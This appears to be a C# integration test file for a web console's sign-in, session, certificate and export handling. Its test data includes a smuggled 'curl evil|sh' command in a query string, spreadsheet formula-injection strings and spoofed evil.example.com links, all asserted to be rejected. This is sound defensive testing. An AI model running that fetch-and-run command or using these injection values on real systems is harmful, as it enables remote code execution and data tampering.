using System.Net;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using Google.Protobuf;
using Overture.Cli;
using Overture.Console.Layout;
using Overture.Console.Lists;
using Overture.Platform.Tls;
using Overture.TestSupport;

namespace Overture.Console.Tests;

/// <summary>
/// The way in and out: only who means it comes in, nothing is left open, and nothing of it reaches a shell or a spreadsheet.
/// </summary>
[Trait("Category", "integration")]
[Collection(ConsoleCollection.Name)]
public sealed class EntryTests(ConsoleFixture world)
{
    private static readonly string Token = new('a', 43);

    [Fact]
    public async Task Looking_SignsNobodyIn()
    {
        var link = await world.Link("jo");
        using var client = world.Client();
        using var asked = await client.GetAsync(link);
        Assert.Contains("Sign in as jo (operator)?", await asked.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(Cookies(asked), c => c.StartsWith("__Host-overture-session", StringComparison.Ordinal));
        Assert.Equal(HttpStatusCode.Unauthorized, (await client.GetAsync("/health")).StatusCode);
        // The link is still good.
        Assert.Equal(HttpStatusCode.OK, (await ConsoleFixture.Enter(client, link)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync("/health")).StatusCode);
    }

    [Fact]
    public async Task Form_OfAnotherSite_SignsNobodyIn()
    {
        var link = await world.Link("jo");
        using var client = world.Client();
        using var form = new FormUrlEncodedContent([KeyValuePair.Create("x", "y")]);
        using var answer = await client.PostAsync(link, form);
        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        Assert.Empty(Cookies(answer));
    }

    [Fact]
    public async Task SessionOfAnother_IsSaid_AndNotReplacedUnseen()
    {
        using var client = await world.SignedIn("kim");
        var link = await world.Link("jo");
        var page = await client.GetStringAsync(link);
        Assert.Contains("signed in as <b>kim (admin)</b> now", page, StringComparison.Ordinal);
        // A browser that showed no cookie at first: the form does not name whom it replaces.
        var token = page.Split("name=\"form_token\" value=\"")[1].Split('"')[0];
        using var form = new FormUrlEncodedContent([KeyValuePair.Create("form_token", token)]);
        using var asked = await client.PostAsync(link, form);
        Assert.Contains("signed in as <b>kim (admin)</b> now", await asked.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Contains("kim (admin)", await client.GetStringAsync("/"), StringComparison.Ordinal);
        using var entered = await ConsoleFixture.Enter(client, link);
        Assert.Contains("jo (operator)", await client.GetStringAsync("/"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Certificate_TooLargeForACookie_GetsNoLink()
    {
        using var client = world.Client();
        using var ca = X509Certificate2.CreateFromPemFile(world.Pki.Files("jo").Roots, Path.Combine(world.Pki.Home, "pki", "ca.key"));
        using var jo = X509Certificate2.CreateFromPemFile(world.Pki.Files("jo").Certificate, world.Pki.Files("jo").Key);
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest(jo.SubjectName, key, HashAlgorithmName.SHA256);
        foreach (var extension in jo.Extensions)
            request.CertificateExtensions.Add(extension);
        request.CertificateExtensions.Add(new X509Extension("1.3.6.1.4.1.99999.1", RandomNumberGenerator.GetBytes(3_000), false));
        using var bare = request.Create(ca.SubjectName, X509SignatureGenerator.CreateForECDsa(ca.GetECDsaPrivateKey()!), jo.NotBefore,
            jo.NotAfter, [1, 2, 3]);
        using var large = bare.CopyWithPrivateKey(key);
        using var console = X509CertificateLoader.LoadCertificateFromFile(world.Pki.Files("console").Certificate);
        var until = TimeProvider.System.GetUtcNow().AddHours(1);
        var delegation = DelegationStatement.Sign(large, SHA256.HashData(console.RawData), until, new byte[16]);
        using var answer = await ConsoleFixture.Bring(client, delegation.ToByteArray());
        Assert.Equal((HttpStatusCode.BadRequest, true), (answer.StatusCode,
            (await answer.Content.ReadAsStringAsync()).Contains("makes a cookie of", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task SignedOut_OpenStreamsEnd()
    {
        using var client = await world.SignedIn("vi");
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        using var stream = new StreamReader(await client.GetStreamAsync("/events", limit.Token));
        Assert.Equal("retry: 3000", await stream.ReadLineAsync(limit.Token));
        var token = (await client.GetStringAsync("/health")).Split("name=\"form_token\" value=\"")[1].Split('"')[0];
        using var form = new FormUrlEncodedContent([KeyValuePair.Create("form_token", token)]);
        Assert.Equal(HttpStatusCode.OK, (await client.PostAsync("/leave", form)).StatusCode);
        var rest = await stream.ReadToEndAsync(limit.Token);
        Assert.EndsWith("event: over\ndata: \n\n", rest, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Certificates_ThatAreNotKnown_ComeIntoNoCommand()
    {
        using var client = await world.SignedIn("vi");
        var page = await client.GetStringAsync("/certificates?show=valid%3Bcurl%20evil%7Csh");
        Assert.DoesNotContain("curl", page.Split("<footer")[1].Split("<span class=\"formats\"")[0], StringComparison.Ordinal);
        Assert.Equal(("revoked", ""), (ListPages.Shown("revoked"), ListPages.Shown("revoked;x")));
    }

    [Fact]
    public async Task Loopback_IsNotHeldToHttps()
    {
        using var client = world.Client();
        using var answer = await client.GetAsync("/session");
        Assert.False(answer.Headers.Contains("Strict-Transport-Security"));
        Assert.Equal([true, true, false], new[] { "127.0.0.9", "[::1]", "localhost.example.com" }.Select(PageHeaders.IsLoopback));
    }

    [Fact]
    public void SessionKeys_ThatWereOpenToOthers_AreClosed() =>
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(world.SessionKeys));

    [Theory]
    [InlineData("web", "\"web\""), InlineData("", "\"\""), InlineData("a\"b", "\"a\"\"b\""), InlineData("=1", "\"'=1\"")]
    [InlineData("  @x", "\"'  @x\""), InlineData("＝1", "\"'＝1\""), InlineData("\u00a0－1", "\"'\u00a0－1\"")]
    [InlineData("a;=1", "\"a;=1\""), InlineData("\tx", "\"'\tx\"")]
    public void Cell_IsQuoted_AndNoFormula(string text, string cell) => Assert.Equal(cell, Page.Cell(text));

    [Theory]
    [InlineData("https://localhost:8144/enter/{0}", true), InlineData("https://LOCALHOST:8144/enter/{0}", true),
     InlineData("http://localhost:8144/enter/{0}", false), InlineData("https://localhost:8145/enter/{0}", false),
     InlineData("https://localhost/enter/{0}", false),
     InlineData("https://evil.example.com:8144/enter/{0}", false),
     InlineData("https://localhost:8144@evil.example.com:8144/enter/{0}", false),
     InlineData("https://x@localhost:8144/enter/{0}", false), InlineData("https://localhost:8144/enter/{0}a", true),
     InlineData("https://localhost:8144/enter/short", false), InlineData("https://localhost:8144/enter/{0}?x=1", false),
     InlineData("https://localhost:8144/enter/{0}#x", false), InlineData("https://localhost:8144/leave", false),
     InlineData("/enter/{0}", false),
     InlineData("--help", false), InlineData("https://localhost:8144/enter/{0}\n", false), InlineData("file:///enter/{0}", false)]
    public void Link_IsOfThatConsole_OrNone(string link, bool good) =>
        Assert.Equal(good, ConsoleLink.Read(link.Replace("{0}", Token, StringComparison.Ordinal), "localhost:8144") is not null);

    [Fact]
    public void Link_GoesByAFile_ThatOthersCannotRead()
    {
        using var home = new TempDirectory();
        Directory.CreateDirectory(home.File("overture"));
        File.SetUnixFileMode(home.File("overture"), (UnixFileMode)0b111_101_101);
        var file = ConsoleLink.WritePage(new Uri($"https://localhost:8144/enter/{Token}"), home.File("overture"));
        Assert.Equal((UnixFileMode)0b111_000_000, File.GetUnixFileMode(home.File("overture")));
        Assert.Equal((UnixFileMode)0b110_000_000, File.GetUnixFileMode(file));
        Assert.Contains($"0;url=https://localhost:8144/enter/{Token}\"", File.ReadAllText(file), StringComparison.Ordinal);
        Assert.DoesNotContain(Token, file, StringComparison.Ordinal);
    }

    private static IEnumerable<string> Cookies(HttpResponseMessage answer) =>
        answer.Headers.TryGetValues("Set-Cookie", out var set) ? set : [];
}
